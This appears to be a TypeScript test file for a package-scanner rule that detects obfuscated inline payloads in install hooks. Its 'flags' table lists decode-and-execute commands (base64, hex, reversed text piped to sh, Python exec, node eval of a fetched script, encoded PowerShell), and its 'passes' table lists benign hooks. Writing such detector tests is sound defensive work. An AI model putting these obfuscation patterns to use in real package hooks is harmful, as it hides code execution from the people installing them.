import { inlinePayload } from "../../../src/scanner/rules/ins-06-inline-payload.ts";
import { describeRule, hook } from "../../support/rule-tables.ts";

const line = Buffer.from("touch /tmp/a; node b.js; echo a long enough command line").toString(
  "base64",
);
const program = Array.from({ length: 30 }, (_, index) => `let v${index}=f(${index});`).join("");

describeRule(inlinePayload, {
  flags: {
    "a decoded line for a shell": hook(`echo ${line} | base64 -d | sh`),
    "another decoder": hook(`printf %s ${line} | openssl enc -base64 -d | bash`),
    "a substitution": hook(`sh -c "$(echo ${line} | base64 --decode)"`),
    "escaped bytes": hook("printf '746f756368' | xxd -r -p | sh"),
    "a reversed line": hook("echo 'hs.a/ hs' | rev | sh"),
    "a packed file of the package": hook("base64 -d data.txt > a.sh && sh a.sh", {
      "data.txt": line,
    }),
    "an evaluation of packed text": hook(
      `node -e "eval(Buffer.from('${line}','base64').toString())"`,
    ),
    "a packed text in Python": hook(`python -c "import base64;exec(base64.b64decode('${line}'))"`),
    "a fetch that is evaluated": hook(
      `node -e "fetch('https://files.example.test/a').then(r=>r.text()).then(eval)"`,
    ),
    "an encoded PowerShell command": hook("powershell -enc ZQBjAGgAbwAgADEA"),
    "nesting without end": hook(`${"$(".repeat(5_000)}x`),
    "a long program": { ...hook(`node -e "${program}"`), points: 40 },
  },
  passes: {
    "a guarded require": hook("node -e \"try{require('./postinstall')}catch(e){}\""),
    "an engine check": hook(
      "node -e \"if(process.versions.node.split('.')[0]<18)process.exit(1)\"",
    ),
    "a banner": hook(
      `node -e "console.log('\\u001b[35m${"Love this? Donate! ".repeat(30)}\\u001b[39m')"`,
    ),
    "data that is decoded and kept": hook(`echo ${line} | base64 -d > data.bin`),
    "a test script": { manifest: { scripts: { test: `echo ${line} | base64 -d | sh` } } },
  },
});
